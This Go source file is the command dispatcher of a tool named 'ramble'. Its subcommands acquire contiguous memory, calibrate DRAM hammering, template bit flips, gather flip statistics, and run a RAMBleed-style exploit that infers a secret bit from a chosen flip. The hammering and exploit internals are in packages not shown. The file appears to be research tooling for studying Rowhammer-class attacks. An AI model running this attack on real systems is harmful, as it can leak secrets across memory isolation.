// Command ramble is a thin dispatcher over the procurement, calibration,
// templating, statistics, and exploit passes; argument parsing itself is
// an external concern this command keeps intentionally minimal.
package main

import (
	"flag"
	"fmt"
	"os"
	"runtime/pprof"

	"ramble/internal/config"
	"ramble/internal/diag"
	"ramble/internal/dram"
	"ramble/internal/exploit"
	"ramble/internal/flipstats"
	"ramble/internal/hammer"
	"ramble/internal/memmap"
	"ramble/internal/memproc"
	"ramble/internal/metrics"
	"ramble/internal/report"
	"ramble/internal/template"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(1)
	}

	cfg, err := config.Load()
	if err != nil {
		fatal(err)
	}

	switch os.Args[1] {
	case "check":
		runCheck(cfg, os.Args[2:])
	case "calibrate":
		runCalibrate(cfg, os.Args[2:])
	case "template":
		runTemplate(cfg, os.Args[2:])
	case "stats":
		runStats(cfg, os.Args[2:])
	case "exploit":
		runExploit(cfg, os.Args[2:])
	default:
		usage()
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: ramble <check|calibrate|template|stats|exploit> [flags]")
}

func fatal(err error) {
	fmt.Fprintf(os.Stderr, "ramble: %v\n", err)
	os.Exit(1)
}

func procure(cfg *dram.Config, strategy string) (*memmap.MemMap, error) {
	switch strategy {
	case "1g":
		return memproc.Acquire1GHugepage(cfg)
	case "buddy":
		return memproc.AcquireBuddyDrain(cfg)
	default:
		return memproc.Acquire2MHugepage(cfg)
	}
}

// addHammerMultiplierFlag registers -hammer-multiplier with cfg's
// already-loaded value (defaults/environment) as its default, so an
// explicit flag is the only thing that can override it.
func addHammerMultiplierFlag(fs *flag.FlagSet, cfg *dram.Config) *int {
	return fs.Int("hammer-multiplier", cfg.HammerMultiplier,
		"scales the measured reads-per-refresh value written to ReadsPerHammer")
}

// rowFilterFromRange builds a template.RowFilter admitting only rows in
// [min, max], or returns nil (meaning "every row") when both bounds are
// left at their unset default of -1.
func rowFilterFromRange(mm *memmap.MemMap, min, max int) template.RowFilter {
	if min < 0 && max < 0 {
		return nil
	}
	if min < 0 {
		min = 0
	}
	if max < 0 {
		max = 0xFFFF
	}
	f := make(template.RowFilter)
	for _, rk := range mm.Rows() {
		if int(rk.Row) >= min && int(rk.Row) <= max {
			f[rk] = struct{}{}
		}
	}
	return f
}

func runCheck(cfg *dram.Config, args []string) {
	fs := flag.NewFlagSet("check", flag.ExitOnError)
	strategy := fs.String("strategy", "2m", "procurement strategy: 2m, 1g, or buddy")
	fs.Parse(args)

	mm, err := procure(cfg, *strategy)
	if err != nil {
		fatal(err)
	}
	defer mm.Close()

	if err := diag.CheckContiguity(mm.Bytes()); err != nil {
		fatal(err)
	}
	fmt.Printf("contiguous: base=%#x len=%d\n", mm.Base(), mm.Len())
}

func runCalibrate(cfg *dram.Config, args []string) {
	fs := flag.NewFlagSet("calibrate", flag.ExitOnError)
	strategy := fs.String("strategy", "2m", "procurement strategy: 2m, 1g, or buddy")
	mult := addHammerMultiplierFlag(fs, cfg)
	cpuprofile := fs.String("cpuprofile", "", "write a pprof CPU profile of calibration to this path and summarize it")
	fs.Parse(args)
	cfg.HammerMultiplier = *mult

	mm, err := procure(cfg, *strategy)
	if err != nil {
		fatal(err)
	}
	defer mm.Close()

	if *cpuprofile != "" {
		f, err := os.Create(*cpuprofile)
		if err != nil {
			fatal(err)
		}
		defer f.Close()
		if err := pprof.StartCPUProfile(f); err != nil {
			fatal(err)
		}
		defer pprof.StopCPUProfile()
	}

	n, a1, a2, err := hammer.Calibrate(mm, cfg)
	if err != nil {
		fatal(err)
	}
	fmt.Println(hammer.Report(a1, a2, n, cfg))

	if *cpuprofile != "" {
		pprof.StopCPUProfile()
		r, err := os.Open(*cpuprofile)
		if err != nil {
			fatal(err)
		}
		defer r.Close()
		summary, err := diag.SummarizeCPUProfile(r)
		if err != nil {
			fatal(err)
		}
		fmt.Println(summary)
	}
}

func runTemplate(cfg *dram.Config, args []string) {
	fs := flag.NewFlagSet("template", flag.ExitOnError)
	strategy := fs.String("strategy", "2m", "procurement strategy: 2m, 1g, or buddy")
	mult := addHammerMultiplierFlag(fs, cfg)
	rowMin := fs.Int("row-min", -1, "only template rows >= this (default: no lower bound)")
	rowMax := fs.Int("row-max", -1, "only template rows <= this (default: no upper bound)")
	fs.Parse(args)
	cfg.HammerMultiplier = *mult

	mm, err := procure(cfg, *strategy)
	if err != nil {
		fatal(err)
	}
	defer mm.Close()

	if _, _, _, err := hammer.Calibrate(mm, cfg); err != nil {
		fatal(err)
	}

	filter := rowFilterFromRange(mm, *rowMin, *rowMax)
	flips := template.Template2MBContig(mm, cfg, filter)
	if err := report.WriteFlips(os.Stdout, flips); err != nil {
		fatal(err)
	}
	if err := report.WriteSummary(os.Stdout, flips); err != nil {
		fatal(err)
	}
	if metrics.Enabled {
		fmt.Println(metrics.Summary(&metrics.Default))
	}
}

func runStats(cfg *dram.Config, args []string) {
	fs := flag.NewFlagSet("stats", flag.ExitOnError)
	strategy := fs.String("strategy", "2m", "procurement strategy: 2m, 1g, or buddy")
	mult := addHammerMultiplierFlag(fs, cfg)
	rowMin := fs.Int("row-min", -1, "only template rows >= this (default: no lower bound)")
	rowMax := fs.Int("row-max", -1, "only template rows <= this (default: no upper bound)")
	fs.Parse(args)
	cfg.HammerMultiplier = *mult

	mm, err := procure(cfg, *strategy)
	if err != nil {
		fatal(err)
	}
	defer mm.Close()

	if _, _, _, err := hammer.Calibrate(mm, cfg); err != nil {
		fatal(err)
	}

	filter := rowFilterFromRange(mm, *rowMin, *rowMax)
	flips := template.Template2MBContig(mm, cfg, filter)
	for i := range flips {
		if err := flipstats.Characterize(mm, &flips[i], cfg); err != nil {
			fatal(err)
		}
	}

	if err := report.WriteFlips(os.Stdout, flips); err != nil {
		fatal(err)
	}
	if err := report.WriteSummary(os.Stdout, flips); err != nil {
		fatal(err)
	}
}

func runExploit(cfg *dram.Config, args []string) {
	fs := flag.NewFlagSet("exploit", flag.ExitOnError)
	strategy := fs.String("strategy", "2m", "procurement strategy: 2m, 1g, or buddy")
	mult := addHammerMultiplierFlag(fs, cfg)
	fs.Parse(args)
	cfg.HammerMultiplier = *mult

	mm, err := procure(cfg, *strategy)
	if err != nil {
		fatal(err)
	}
	defer mm.Close()

	if _, _, _, err := hammer.Calibrate(mm, cfg); err != nil {
		fatal(err)
	}

	flips := template.Template2MBContig(mm, cfg, nil)
	if len(flips) == 0 {
		fmt.Fprintln(os.Stderr, "ramble: no flips found to exploit")
		os.Exit(1)
	}

	target := mostStripedFlip(mm, cfg, flips)
	secretBit, err := exploit.ExploitBit(mm, target, cfg, exploit.DefaultPlaceSecret)
	if err != nil {
		fatal(err)
	}
	fmt.Printf("exploit: inferred secret bit=%t at row=%d col=%d byte=%d bit=%d\n",
		secretBit, target.Pos.Row, target.Pos.Col, target.Pos.Byte, target.Pos.Bit)
}

// mostStripedFlip characterizes every candidate and returns the one with
// the highest striped-complement frequency, the property that makes a flip
// usable for a Rambleed-style read (see internal/flipstats).
func mostStripedFlip(mm *memmap.MemMap, cfg *dram.Config, flips []dram.Flip) dram.Flip {
	best := flips[0]
	bestScore := -1.0
	for i := range flips {
		if err := flipstats.Characterize(mm, &flips[i], cfg); err != nil {
			continue
		}
		if flips[i].Stats.StripedComplement > bestScore {
			bestScore = flips[i].Stats.StripedComplement
			best = flips[i]
		}
	}
	return best
}
